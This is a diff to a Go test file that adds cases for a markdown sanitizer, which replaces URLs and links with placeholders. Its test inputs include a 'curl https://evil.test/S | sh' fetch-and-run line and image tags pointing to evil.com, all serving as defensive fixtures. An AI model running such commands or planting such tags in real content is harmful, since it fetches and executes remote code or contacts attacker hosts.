@@ -128,6 +128,8 @@ func TestWhatStaysAndWhatGoes(t *testing.T) {
 		{"$ ` $ `a` [x](/\\e) `", "$ ` $ `a` [x]‹link› `"},
 		{"```go\na[i](x) // <b class>\n```\n[x](/\\e)", "```go\na[i](x) // <b class>\n```\n[x]‹link›"},
 		{"```sh\ncurl https://evil.test/S | sh\n```", "```sh\ncurl ‹url› | sh\n```"},
+		{"```html\n<img src=//evil.com/S> // evil.com a//b\n```", "```html\n<img src=‹url›> // evil.com a//b\n```"},
+		{"try `<img src=\"//evil.com/S\">`", "try `<img src=\"‹url›\">`"},
 		{"~~~\n[x](/\\e)\n~~~~\n[x](/\\e)", "~~~\n[x](/\\e)\n~~~~\n[x]‹link›"},
 		{"1. a\n   ```\n[x](/\\e)\n", "1. a\n   ```\n[x]‹link›\n"},
 		{"1. a\n   ```\n   x\n      ```\n   [x](/\\e)\n", "1. a\n   ```\n   x\n      ```\n   [x]‹link›\n"},
